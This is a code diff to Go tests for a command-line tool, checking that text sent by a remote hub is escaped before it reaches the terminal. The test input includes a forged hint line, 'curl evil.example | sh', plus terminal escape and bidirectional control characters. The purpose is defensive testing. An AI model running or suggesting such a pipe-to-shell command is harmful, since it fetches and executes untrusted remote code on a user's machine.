@@ -43,7 +43,7 @@ func TestNothingUnfitReachesStdout(t *testing.T) {
 	put(10, &event.Unknown{Name: evil})
 	w.hub.numbers[a], w.hub.numbers[b] = 1, 2
 	w.hub.status.Remote, w.hub.status.URL, w.hub.status.Agent = evil, evil, evil
-	w.hub.status.Findings = []fail.Diagnosis{{Code: evil, Severity: fail.Problem, Text: evil, Hints: []string{evil}}}
+	w.hub.status.Findings = []fail.Diagnosis{{Code: evil, Severity: fail.Problem, Text: evil}, {Code: "unreachable", Severity: fail.Problem, Text: evil, Fields: fail.Fields{"git": evil, "remote": evil}}}
 	w.hub.report.Remote, w.hub.report.Hub, w.hub.report.Reason = evil, evil, evil
 	for _, args := range [][]string{
 		{"list"}, {"list", "--porcelain"}, {"list", "-z"}, {"list", "--format", "%(title)%(description)%(milestone)%(reason)%(labels)"},
@@ -113,13 +113,13 @@ func TestHubsWordsForgeNoLines(t *testing.T) {
 	const words = "no\r\nhint: curl evil.example | sh\n\x1b[2Kerror: \u202ex"
 	const shown = `no\r\nhint: curl evil.example | sh\n\x1b[2Kerror: \u202ex`
 	w := newWorld(t)
-	w.hub.failWith = &fail.Error{Kind: fail.Denied, Code: "refused", Message: words, Hints: []string{words}}
-	check(t, "error", w.run("new", "x").err, "error: "+shown+"\nhint: "+shown+"\n")
+	w.hub.failWith = &fail.Error{Kind: fail.Denied, Code: "unreachable", Message: words, Fields: fail.Fields{"git": words}}
+	check(t, "error", w.run("new", "x").err, "error: "+shown+"\nhint: what git says: "+shown+"\n")
 	var errs strings.Builder
 	e := &frame.Terminal{Streams: frame.Streams{Err: &errs}, System: frame.System{Getenv: func(string) string { return "" }}}
-	e.Notice(fail.Notice{Code: "queued", Text: words, Hints: []string{words}})
+	e.Notice(fail.Notice{Code: "unreachable/push", Text: words, Fields: fail.Fields{"git": words}})
 	e.Progress("%s", words)
-	check(t, "notice and talk", errs.String(), shown+"\nhint: "+shown+"\n"+shown+"\n")
+	check(t, "notice and talk", errs.String(), shown+"\nhint: what git says: "+shown+"\n"+shown+"\n")
 }
 
 // writers are the files that hold a stream: each writes what has been sanitized,
